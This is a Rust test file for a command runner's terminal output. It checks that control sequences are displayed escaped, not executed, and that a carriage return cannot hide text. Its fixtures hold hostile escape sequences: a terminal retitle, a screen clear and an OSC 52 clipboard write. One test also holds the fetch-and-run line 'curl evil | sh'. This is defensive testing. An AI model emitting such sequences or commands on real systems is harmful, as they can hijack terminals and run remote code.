//! A human's terminal: the command's control sequences are shown, not
//! obeyed, colours aside, unless `--render raw`; a pipe gets the exact
//! text. Driven under a real pseudo-terminal (Python's pty), whose line
//! discipline writes each `\n` as `\r\n`.
use crate::support::pty::Pty;
use crate::support::*;

/// Retitles the terminal, clears the screen, colours a word; on stderr,
/// writes to the clipboard (OSC 52) and moves the cursor up.
const HOSTILE: &str = "printf '\\033]0;pwned\\007\\033[2J\\033[31mred\\033[0m\\n'; \
                       printf 'err\\033]52;c;eA==\\007\\033[1A\\n' >&2";

/// What the terminal showed of `dsh-exec ARGS -- SCRIPT`, with `env`.
fn on_terminal(args: &[&str], env: &[(&str, &str)], script: &str) -> String {
    let mut pty = Pty::new(bin()).args(args).args(["--", script]);
    for (k, v) in env {
        pty = pty.env(k, v);
    }
    pty.run().text
}

/// `--render raw`, given, is the exact bytes on a terminal too (with an
/// attribute reset before the marker).
#[test]
fn on_a_terminal_sequences_show_and_colours_stay_unless_render_raw() {
    assert_eq!(
        on_terminal(&[], &[], HOSTILE),
        "\\x1b]0;pwned\\x07\\x1b[2J\x1b[31mred\x1b[0m\r\n\
         [stderr]\r\n\
         err\\x1b]52;c;eA==\\x07\\x1b[1A\r\n\
         \x1b[0m\x1b[1m\x1b[32m[exit code: 0]\x1b[39m\x1b[0m\r\n"
    );
    assert_eq!(
        on_terminal(&["--render", "raw", "--color", "never"], &[], HOSTILE),
        "\x1b]0;pwned\x07\x1b[2J\x1b[31mred\x1b[0m\r\n\
         [stderr]\r\n\
         err\x1b]52;c;eA==\x07\x1b[1A\r\n\
         \x1b[0m[exit code: 0]\r\n"
    );
}

#[test]
fn without_colour_the_colours_go_too() {
    let plain = "\\x1b]0;pwned\\x07\\x1b[2Jred\r\n\
                 [stderr]\r\n\
                 err\\x1b]52;c;eA==\\x07\\x1b[1A\r\n\
                 [exit code: 0]\r\n";
    assert_eq!(on_terminal(&[], &[("NO_COLOR", "1")], HOSTILE), plain);
    assert_eq!(on_terminal(&["--color", "never"], &[], HOSTILE), plain);
}

/// A carriage return that draws over a line shows, with a line break: the
/// text it would hide stays readable. One before a newline stays.
#[test]
fn a_carriage_return_cannot_hide_text() {
    assert_eq!(
        on_terminal(
            &["--color", "never"],
            &[],
            "printf 'curl evil | sh\\rls            \\n'; printf 'dos\\r\\n'"
        ),
        "curl evil | sh\\r\r\nls            \r\ndos\r\r\n[exit code: 0]\r\n"
    );
}

/// `--stream` on a terminal is shown as the result is; in a pipe, the live
/// copy and the result are the exact bytes.
#[test]
fn live_output_is_shown_the_same_way_on_a_terminal_and_a_pipe_gets_the_bytes() {
    assert_eq!(
        on_terminal(
            &["--stream", "--color", "never"],
            &[],
            "printf '\\033]0;pwned\\007\\033[2J'; sleep 0.2; printf '\\033[31mred\\033[0m\\rx\\n'"
        ),
        "\\x1b]0;pwned\\x07\\x1b[2Jred\\r\r\nx\r\n[exit code: 0]\r\n"
    );
    Test::new()
        .args(["--stream", "--", HOSTILE])
        .run()
        .expect_stdout("\x1b]0;pwned\x07\x1b[2J\x1b[31mred\x1b[0m\n[exit code: 0]\n")
        .expect_stderr("err\x1b]52;c;eA==\x07\x1b[1A\n");
    Test::new().args(["--", HOSTILE]).run().expect_stdout(
        "\x1b]0;pwned\x07\x1b[2J\x1b[31mred\x1b[0m\n\
         [stderr]\n\
         err\x1b]52;c;eA==\x07\x1b[1A\n\
         [exit code: 0]\n",
    );
}
